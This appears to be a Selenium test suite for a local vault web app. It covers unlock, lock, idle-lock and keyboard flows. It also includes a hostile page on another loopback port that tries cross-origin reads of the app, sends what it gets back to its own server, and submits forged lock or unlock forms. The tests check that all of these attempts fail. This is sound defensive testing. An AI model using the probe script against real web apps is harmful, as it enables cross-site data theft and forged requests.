"""Unlock, lock and idle lock in a real browser (headless Chromium), and a
hostile page on another loopback port that tries to drive and read the app.

Screenshots of the unlock and home pages are written to harness.SCREENSHOTS.
"""

import http.server
import json
import os
import threading
import time

from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from harness import ROOT, SCREENSHOTS, AppTestCase, png_size

HOME = "Your vault"
UNLOCK = "Unlock your vault"
SCREEN = (1280, 800)


def fill_vault(vault):
    """What an applicant might keep: the USCIS code, a few login.gov codes, two case numbers."""
    vault.add_codes("uscis", ["ABCD2345EFGH"])
    vault.add_codes("login.gov", ["K7Q2-M9X4-P3W8", "T5R6-Y8U2-J4H7"])
    vault.cli(["id", "add", "a-number"], stdin=b"A123456789\n", what="id add")
    vault.cli(["id", "add", "receipt", "--note", "I-485"], stdin=b"IOE0123456789\n", what="id add")


class BrowserTestCase(AppTestCase):
    def unlock_in_browser(self, browser, passphrase):
        field = browser.find("#passphrase")
        field.clear()
        field.send_keys(passphrase)
        browser.find("form[action='/unlock'] button[type=submit]").click()


class UnlockFlowTests(BrowserTestCase):
    """The launch file, the passphrase form, a wrong passphrase, the Lock button, the keyboard alone."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.vault = cls.make_vault()
        fill_vault(cls.vault)
        cls.app = cls.make_app(cls.vault)
        cls.browser = cls.make_browser()
        cls.browser.set_viewport(*SCREEN)

    def test_1_launch_file_leads_to_the_unlock_page(self):
        self.browser.open_launch_file(self.app, expect="/unlock")
        self.assertEqual(self.browser.heading(), UNLOCK)
        self.assertEqual(self.browser.driver.title, "Unlock · CaseVault")
        # The launch URL is not left in the address bar.
        self.assertNotIn("token", self.browser.driver.current_url, "the address bar still holds the launch URL")
        field = self.browser.find("#passphrase")
        self.assertEqual(field.get_attribute("type"), "password")
        self.assertEqual(self.browser.find("label[for=passphrase]").text, "Passphrase")
        self.assertEqual(self.browser.driver.switch_to.active_element.get_attribute("id"), "passphrase",
                         "the passphrase field does not have the focus")
        hint = self.browser.find("p.hint")
        self.assertEqual(hint.text, f"Vault: {self.vault.path}", "the unlock page does not name the vault")
        # The test's vault is in a new temporary folder each run: the picture
        # shows a usual location instead, so it changes only when the page does.
        self.browser.driver.execute_script("arguments[0].textContent = arguments[1]", hint,
                                           "Vault: /home/maria/.local/share/casevault")
        self.save_screenshot("unlock.png", UNLOCK)

    def test_2_a_wrong_passphrase_says_so_and_stays_locked(self):
        self.browser.driver.get(self.app.address + "unlock")
        self.unlock_in_browser(self.browser, "not the passphrase")
        self.browser.wait_for_path("/unlock")
        alert = self.browser.find("[role=alert]").text
        self.assertIn("That passphrase did not open the vault", alert)
        self.assertSecretAbsent("not the passphrase", self.browser.driver.page_source, "the page after a wrong passphrase")
        self.assertEqual(self.browser.find("#passphrase").get_attribute("value"), "", "the wrong passphrase was kept in the field")
        self.browser.driver.get(self.app.address)
        self.browser.wait_for_path("/unlock")

    def test_3_the_right_passphrase_opens_home(self):
        self.browser.driver.get(self.app.address + "unlock")
        self.unlock_in_browser(self.browser, self.vault.passphrase)
        self.browser.wait_for_path("/")
        self.assertEqual(self.browser.heading(), HOME)
        text = self.browser.page_text()
        self.assertIn("2 site(s), 3 unused code(s)", text)
        self.assertIn("Case numbers: 2", text)
        self.assertIn("login.gov: 2 unused codes left", text)
        self.assertSecretAbsent(self.vault.passphrase, self.browser.driver.page_source, "the home page")
        for code in ("ABCD2345EFGH", "K7Q2-M9X4-P3W8", "A123456789"):
            self.assertSecretAbsent(code, self.browser.driver.page_source, "the home page")
        self.save_screenshot("home.png", HOME)

    def test_4_the_lock_button_locks(self):
        self.browser.driver.get(self.app.address)
        self.browser.wait_for_path("/")
        self.browser.find("form.lock button").click()
        self.browser.wait_for_path("/unlock")
        self.assertEqual(self.browser.heading(), UNLOCK)
        self.browser.driver.back()
        self.browser.wait_for_path(("/", "/unlock"))
        self.browser.driver.refresh()
        self.browser.wait_for_path("/unlock")
        self.assertNotIn(HOME, self.browser.page_text(), "going back after Lock shows the vault")

    def test_5_keyboard_only_unlock_and_lock(self):
        driver = self.browser.driver
        driver.get(self.app.address + "unlock")
        self.browser.wait_for_path("/unlock")
        driver.execute_script("document.activeElement.blur()")
        keys = ActionChains(driver)
        reached = False
        for _ in range(10):
            keys.send_keys(Keys.TAB).perform()
            if driver.switch_to.active_element.get_attribute("id") == "passphrase":
                reached = True
                break
        self.assertTrue(reached, "Tab does not reach the passphrase field")
        ActionChains(driver).send_keys(self.vault.passphrase).send_keys(Keys.ENTER).perform()
        self.browser.wait_for_path("/")
        self.assertEqual(self.browser.heading(), HOME)
        driver.execute_script("document.activeElement.blur()")
        reached = False
        for _ in range(30):
            ActionChains(driver).send_keys(Keys.TAB).perform()
            focused = driver.switch_to.active_element
            if focused.tag_name == "button" and focused.text == "Lock":
                reached = True
                break
        self.assertTrue(reached, "Tab does not reach the Lock button")
        ActionChains(driver).send_keys(Keys.ENTER).perform()
        self.browser.wait_for_path("/unlock")

    def save_screenshot(self, name, heading):
        os.makedirs(SCREENSHOTS, exist_ok=True)
        path = os.path.join(SCREENSHOTS, name)
        self.assertEqual(self.browser.heading(), heading, f"{name}: the page's heading")
        size = self.browser.screenshot(path)
        self.assertEqual(size, SCREEN, f"{name}: the screenshot's size")
        self.assertEqual(png_size(path), SCREEN)
        self.assertGreater(os.path.getsize(path), 10_000, f"{name}: the screenshot is nearly empty")


class KeyringLaunchTests(BrowserTestCase):
    """With keyring unlock enabled, the launch file opens straight on home; after Lock,
    the unlock page's keyring button opens the vault again.

    Needs the test keyring of scripts/with-keyring.sh (make test and make
    test-app run inside it); without it the test fails and says so.
    """

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        if os.environ.get("CASEVAULT_TEST_KEYRING") != "1":
            return
        cls.vault = cls.make_vault()
        cls.vault.enable_keyring()
        cls.app = cls.make_app(cls.vault, keyring=True)
        cls.browser = cls.make_browser()

    def test_launch_file_leads_home_through_the_keyring(self):
        if os.environ.get("CASEVAULT_TEST_KEYRING") != "1":
            self.fail("no test keyring: run through scripts/with-keyring.sh (make test-app does)")
        self.browser.open_launch_file(self.app, expect="/")
        self.assertEqual(self.browser.heading(), HOME)
        self.browser.find("form.lock button").click()
        self.browser.wait_for_path("/unlock")
        self.browser.find("form[action='/unlock/keyring'] button").click()
        self.browser.wait_for_path("/")
        self.assertEqual(self.browser.heading(), HOME)


class IdleLockJavaScriptOnTests(BrowserTestCase):
    """`--idle-lock 4s`: an open page reloads to the unlock page by itself (scripts on)."""

    javascript = True

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.vault = cls.make_vault()
        cls.app = cls.make_app(cls.vault, idle_lock="4s")
        cls.browser = cls.make_browser(javascript=cls.javascript)

    def test_open_page_goes_to_the_unlock_page_when_idle(self):
        self.assertEqual(self.browser.scripts_run(), self.javascript, "the browser's JavaScript setting")
        self.browser.open_launch_file(self.app, expect="/unlock")
        self.unlock_in_browser(self.browser, self.vault.passphrase)
        self.browser.wait_for_path("/")
        self.assertEqual(self.browser.heading(), HOME)
        opened = time.monotonic()
        # Nothing touches the page: it must show the unlock page by itself,
        # after the idle time (4 s) and the page's reload (2 s later).
        self.browser.wait_for_path("/unlock", timeout=15)
        took = time.monotonic() - opened
        self.assertGreaterEqual(took, 3.5, "the page left before the idle time")
        self.assertEqual(self.browser.heading(), UNLOCK)
        self.assertNotIn(HOME, self.browser.page_text())


class IdleLockJavaScriptOffTests(IdleLockJavaScriptOnTests):
    """The same with JavaScript turned off in the browser."""

    javascript = False


class AttackerServer(http.server.ThreadingHTTPServer):
    """A page on another loopback port (the same *site* as the app) and what it reports back."""

    def __init__(self, page):
        self.page = page.encode()
        self.reports = []
        self.requests = []
        super().__init__(("127.0.0.1", 0), AttackerHandler)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}/attack.html"

    def wait_for_report(self, timeout=20):
        deadline = time.monotonic() + timeout
        while not self.reports and time.monotonic() < deadline:
            time.sleep(0.1)
        return self.reports[0] if self.reports else None

    def stop(self):
        self.shutdown()
        self.server_close()


class AttackerHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.requests.append(("GET", self.path))
        if self.path == "/attack.html":
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(self.server.page)))
            self.end_headers()
            self.wfile.write(self.server.page)
        else:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

    def do_POST(self):
        self.server.requests.append(("POST", self.path))
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path == "/report":
            self.server.reports.append(json.loads(body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


#: The hostile page: reads the app's pages every way a page can, reports what
#: it got to its own server, then submits a form to the app (top level, as a
#: real attack would). FORM_ACTION and FIELDS are filled in per attack.
ATTACK_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>A page on another port</title></head>
<body>
<form id="attack" method="post" action="APP/FORM_ACTION">FIELDS</form>
<script>
(async function () {
  const app = "APP";
  const report = {};
  async function attempt(name, fn) {
    try { report[name] = await fn(); } catch (e) { report[name] = "error: " + e.name; }
  }
  await attempt("fetch_cors", async () => {
    const r = await fetch(app + "/", { credentials: "include" });
    return { status: r.status, text: await r.text() };
  });
  await attempt("fetch_no_cors", async () => {
    const r = await fetch(app + "/", { mode: "no-cors", credentials: "include" });
    return { type: r.type, status: r.status, text: await r.text() };
  });
  await attempt("fetch_post", async () => {
    const r = await fetch(app + "/FORM_ACTION", { method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "x=1" });
    return { type: r.type, status: r.status };
  });
  await attempt("xhr", () => new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open("GET", app + "/");
    x.withCredentials = true;
    x.onload = () => resolve({ status: x.status, text: x.responseText });
    x.onerror = () => resolve("error");
    x.send();
  }));
  await attempt("iframe", () => new Promise((resolve) => {
    const f = document.createElement("iframe");
    f.src = app + "/";
    f.onload = () => {
      try { resolve({ text: f.contentDocument ? f.contentDocument.body.innerText : null }); }
      catch (e) { resolve("error: " + e.name); }
    };
    setTimeout(() => resolve("timeout"), 3000);
    document.body.appendChild(f);
  }));
  await attempt("script", () => new Promise((resolve) => {
    const s = document.createElement("script");
    s.src = app + "/";
    s.onload = () => resolve("loaded");
    s.onerror = () => resolve("blocked");
    document.body.appendChild(s);
  }));
  await attempt("stylesheet", () => new Promise((resolve) => {
    const l = document.createElement("link");
    l.rel = "stylesheet";
    l.href = app + "/";
    l.onload = () => resolve("loaded");
    l.onerror = () => resolve("blocked");
    document.head.appendChild(l);
  }));
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
  document.getElementById("attack").submit();
})();
</script>
</body></html>
"""


class OtherPortPageTests(BrowserTestCase):
    """A page served from another loopback port, open in the user's browser with the app unlocked
    (and then locked), can neither change the vault's state nor read any of its pages."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.vault = cls.make_vault()
        fill_vault(cls.vault)
        cls.app = cls.make_app(cls.vault)
        cls.browser = cls.make_browser()
        cls.browser.open_launch_file(cls.app, expect="/unlock")

    def attack(self, action, fields):
        inputs = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields.items())
        page = ATTACK_PAGE.replace("APP", f"http://127.0.0.1:{self.app.port}") \
            .replace("FORM_ACTION", action.lstrip("/")).replace("FIELDS", inputs)
        server = AttackerServer(page)
        self.addCleanup(server.stop)
        self.browser.driver.get(server.url)
        report = server.wait_for_report()
        self.assertIsNotNone(report, "the attacker page did not report back")
        # The form went to the app top-level; the app refused it.
        self.browser.wait_for_path(action, origin=f"http://127.0.0.1:{self.app.port}")
        self.assertIn("refused", self.browser.page_text())
        self.assertIn("Nothing was changed", self.browser.page_text())
        return report

    def assertReadNothing(self, report):
        """Whatever the attacker's scripts got back holds nothing of the app's pages."""
        blob = json.dumps(report)
        for leak in (HOME, UNLOCK, "CaseVault", "uscis", "login.gov", self.vault.path, "Open CaseVault"):
            self.assertNotIn(leak, blob, "the attacker page read part of the app's page")
        self.assertSecretAbsent(self.vault.passphrase, blob, "the attacker's report")
        self.assertTrue(str(report["fetch_cors"]).startswith("error"), "a CORS fetch of the app did not fail")
        # Cross-Origin-Resource-Policy makes even an opaque answer an error.
        no_cors = report["fetch_no_cors"]
        self.assertTrue(str(no_cors).startswith("error") or no_cors == {"type": "opaque", "status": 0, "text": ""},
                        "a no-cors fetch of the app was readable")
        self.assertIn(report["xhr"], ("error", {"status": 0, "text": ""}), "an XHR of the app was not refused")
        self.assertIn(report["iframe"], ({"text": None}, "timeout") , "the framed app page was readable")
        self.assertEqual(report["script"], "blocked", "the app's page loaded as a script")
        self.assertEqual(report["stylesheet"], "blocked", "the app's page loaded as a stylesheet")

    def state(self):
        """Opens the app's home as the user would (address bar): 'unlocked' or 'locked'."""
        self.browser.driver.get(self.app.address)
        self.browser.wait_for_path(("/", "/unlock"))
        return "unlocked" if self.browser.path() == "/" and self.browser.heading() == HOME else "locked"

    def test_1_while_unlocked_it_cannot_lock_or_read(self):
        self.browser.driver.get(self.app.address + "unlock")
        self.unlock_in_browser(self.browser, self.vault.passphrase)
        self.browser.wait_for_path("/")
        report = self.attack("/lock", {"x": "1"})
        self.assertReadNothing(report)
        self.assertEqual(self.state(), "unlocked", "the other port's page locked the vault")

    def test_2_while_locked_it_cannot_unlock_even_with_the_passphrase(self):
        self.browser.driver.get(self.app.address)
        self.browser.find("form.lock button").click()
        self.browser.wait_for_path("/unlock")
        report = self.attack("/unlock", {"passphrase": self.vault.passphrase})
        self.assertReadNothing(report)
        self.assertEqual(self.state(), "locked", "the other port's page unlocked the vault")
        # And the vault still holds what it held: checked with the CLI.
        labels = sorted(e["label"] for e in self.vault.code_entries())
        self.assertEqual(labels, ["login.gov", "uscis"])
